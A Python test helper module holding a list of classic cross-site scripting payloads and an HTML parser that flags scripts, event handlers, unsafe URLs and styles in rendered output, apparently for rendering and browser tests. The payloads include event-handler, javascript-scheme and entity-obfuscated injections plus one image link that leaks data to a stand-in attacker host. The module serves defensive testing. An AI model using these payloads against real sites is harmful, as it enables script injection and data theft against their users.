"""Classic XSS payloads and a checker for "this HTML can run nothing".

Shared by tests/attacks/test_rendering.py (every display path, no browser) and
tests/browser/test_xss.py (a real Chromium: each payload tries to set ``window.__xss`` or call
``alert``, and the browser test asserts that nothing fired).
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

__all__ = ["PAYLOADS", "executable_constructs"]

# (name, text). Each would run ``window.__xss = N`` (or alert) if rendered as markup.
PAYLOADS: list[tuple[str, str]] = [
    ("img-onerror", '<img src=x onerror="window.__xss=1">'),
    ("svg-onload", '<svg onload="window.__xss=2"><circle r="1"/></svg>'),
    ("script-tag", "<script>window.__xss=3</script>"),
    ("md-javascript-link", "[click me](javascript:window.__xss=4)"),
    ("html-javascript-link", '<a href="javascript:window.__xss=5">html link</a>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>parent.__xss=6</script>"></iframe>'),
    (
        "style-expression-url",
        "<style>@import 'javascript:alert(7)';body{background:"
        'url("javascript:alert(7)");width:expression(alert(7))}</style>'
        '<p style="background:url(javascript:alert(7))">styled</p>',
    ),
    ("form-action", '<form action="javascript:window.__xss=8"><button>Send</button></form>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=9">'),
    (
        "data-url",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=">d</a>'
        " [md data](data:text/html,<script>alert(10)</script>)",
    ),
    (
        "event-handler-attr",
        '<div onmouseover="window.__xss=11" onclick="window.__xss=11" '
        'style="position:fixed;inset:0">hover me</div>',
    ),
    ("unclosed-tag", "<img src=x onerror=window.__xss=12 "),
    (
        "entity-javascript",
        '<a href="&#106;avascript:window.__xss=13">entity</a> '
        "[md entity](&#x6A;avascript:window.__xss=13)",
    ),
    ("base-tag", '<base href="javascript:window.__xss=14//">'),
    (
        "object-embed",
        '<object data="javascript:window.__xss=15"></object>'
        '<embed src="javascript:window.__xss=15">',
    ),
    (
        "mathml-maction",
        '<math><maction actiontype="statusline" '
        'xlink:href="javascript:window.__xss=16">CLICK</maction></math>',
    ),
    (
        "mathjax-href",
        r"$\href{javascript:window.__xss=17}{math link}$ and "
        r"$$\style{position:fixed}{\class{x}{y}}$$",
    ),
    ("details-ontoggle", '<details open ontoggle="window.__xss=18">x</details>'),
    ("input-autofocus", '<input autofocus onfocus="window.__xss=19">'),
    ("video-source-onerror", '<video><source onerror="window.__xss=20"></video>'),
    ("markdown-image-exfil", "![pixel](https://attacker.example/leak?d=secret)"),
    ("mixed-case-scheme", '<a href="  JaVaScRiPt:window.__xss=22">mixed case</a>'),
    ("body-onload", "<body onload=window.__xss=23>"),
    ("link-stylesheet", '<link rel=stylesheet href="javascript:alert(24)">'),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=window.__xss=25>">'),
    ("svg-animate", "<svg><animate onbegin=window.__xss=26 attributeName=x dur=1s>"),
    ("tab-in-scheme", '<a href="jav&#x09;ascript:window.__xss=27">tab</a>'),
    ("relative-api-link", '<a href="/api/terminals">open a terminal</a>'),
]

_FORBIDDEN_TAGS = frozenset(
    {
        "script",
        "iframe",
        "frame",
        "frameset",
        "style",
        "form",
        "svg",
        "math",
        "object",
        "embed",
        "meta",
        "base",
        "link",
        "img",
        "image",
        "video",
        "audio",
        "source",
        "input",
        "button",
        "textarea",
        "select",
        "body",
        "html",
        "head",
        "template",
        "noscript",
        "applet",
        "maction",
        "animate",
        "set",
        "foreignobject",
        "picture",
        "track",
        "portal",
    }
)
_URL_ATTRS = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "data",
        "xlink:href",
        "srcdoc",
        "background",
        "poster",
        "srcset",
        "content",
    }
)
_SAFE_URL = re.compile(r"(https?|mailto):", re.IGNORECASE)
_SAFE_STYLE = re.compile(
    r"[a-z\-]+\s*:\s*[#\w\-\s.%,]+(;\s*[a-z\-]+\s*:\s*[#\w\-\s.%,]+)*;?", re.IGNORECASE
)


_VOID = frozenset(
    {
        "area",
        "base",
        "br",
        "col",
        "embed",
        "hr",
        "img",
        "input",
        "link",
        "meta",
        "source",
        "track",
        "wbr",
    }
)
_MATH = re.compile(r"\$|\\\(|\\\[")
_MATH_OFF = re.compile(r"(^|\s)(mathjax_ignore|tex2jax_ignore)(\s|$)")


class _Audit(HTMLParser):
    def __init__(self, *, math: bool) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.math = math
        self.stack: list[tuple[str, bool]] = []  # (tag, MathJax told to skip it)

    def handle_endtag(self, tag: str) -> None:
        for i in range(len(self.stack) - 1, -1, -1):
            if self.stack[i][0] == tag:
                del self.stack[i:]
                break

    def handle_data(self, data: str) -> None:
        if self.math and _MATH.search(data) and not any(off for _t, off in self.stack):
            self.problems.append(f"math MathJax would typeset: {data[:40]!r}")

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _VOID:
            self.stack.append((tag, bool(_MATH_OFF.search(dict(attrs).get("class") or ""))))
        if tag in _FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = html.unescape(value or "")
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            elif name in _URL_ATTRS:
                compact = re.sub(r"[\x00-\x20]", "", value)
                if not _SAFE_URL.match(compact):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            elif name == "style" and (
                not _SAFE_STYLE.fullmatch(value.strip())
                or "url" in value.lower()
                or "expression" in value.lower()
            ):
                self.problems.append(f"<{tag} style={value!r}>")
            elif name in ("id", "name", "is", "autofocus", "contenteditable"):
                self.problems.append(f"<{tag} {name}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)


_RAW_TAG = re.compile(
    r"<\s*/?\s*(script|iframe|svg|math|style|object|embed|meta|base|img|"
    r"form|link)\b",
    re.IGNORECASE,
)


def executable_constructs(fragment: str, *, math: bool = True) -> list[str]:
    """Everything in ``fragment`` (HTML) that a browser could run or that could load
    something: forbidden tags, ``on*`` handlers, non-http(s)/mailto URLs (relative ones
    included), styles beyond plain properties, and (``math=True``) text with TeX
    delimiters outside an element MathJax skips (``\\href``, ``\\style`` in TeX). Empty
    when the fragment is inert."""
    audit = _Audit(math=math)
    audit.feed(fragment)
    audit.close()
    problems = list(audit.problems)
    problems += [f"raw {m.group(0)!r}" for m in _RAW_TAG.finditer(fragment)]
    return problems
